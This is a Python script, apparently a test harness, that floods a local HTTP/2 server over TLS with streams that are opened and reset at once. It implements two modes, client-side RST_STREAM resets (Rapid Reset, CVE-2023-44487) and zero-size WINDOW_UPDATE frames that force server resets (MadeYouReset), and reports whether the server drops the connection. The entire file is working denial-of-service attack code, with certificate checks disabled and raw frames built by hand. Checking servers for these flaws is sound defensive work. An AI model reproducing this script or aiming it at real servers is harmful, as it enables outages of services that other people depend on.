#!/usr/bin/env python3
"""An HTTP/2 client that opens streams and gets them reset at once, over TLS (ALPN h2).

usage: h2attack.py PORT PATH MODE PAIRS
MODE rst:  HEADERS then RST_STREAM(CANCEL) from the client (Rapid Reset, CVE-2023-44487).
MODE zero: HEADERS then WINDOW_UPDATE 0 on the stream, which the server must answer by
           resetting the stream itself (MadeYouReset).
Prints one JSON line: pairs sent before the server closed, and whether it closed.
"""
import json
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection

port, path, mode, pairs = int(sys.argv[1]), sys.argv[2], sys.argv[3], int(sys.argv[4])
BATCH = 50

tls = ssl.create_default_context()
tls.check_hostname = False
tls.verify_mode = ssl.CERT_NONE
tls.set_alpn_protocols(["h2"])
raw = socket.create_connection(("127.0.0.1", port), timeout=5)
sock = tls.wrap_socket(raw, server_hostname="localhost")
assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()

conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
conn.initiate_connection()
sock.sendall(conn.data_to_send())
headers = [(":method", "GET"), (":path", path), (":scheme", "https"),
           (":authority", "localhost")]

sent, closed = 0, False
try:
    while sent < pairs:
        out = b""
        for _ in range(min(BATCH, pairs - sent)):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, headers, end_stream=True)
            if mode == "rst":
                conn.reset_stream(sid, error_code=8)
                out += conn.data_to_send()
            else:
                out += conn.data_to_send() + struct.pack(">I", 4)[1:] + bytes([8, 0]) + \
                    struct.pack(">II", sid, 0)
            sent += 1
        sock.sendall(out)
except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError):
    closed = True

# Whatever is left: the server either closes (EOF) or keeps the connection open.
deadline = time.monotonic() + 3
sock.settimeout(0.5)
while not closed and time.monotonic() < deadline:
    try:
        if sock.recv(65536) == b"":
            closed = True
    except socket.timeout:
        continue
    except (ConnectionResetError, ssl.SSLError, OSError):
        closed = True
print(json.dumps({"sent": sent, "closed": closed}))
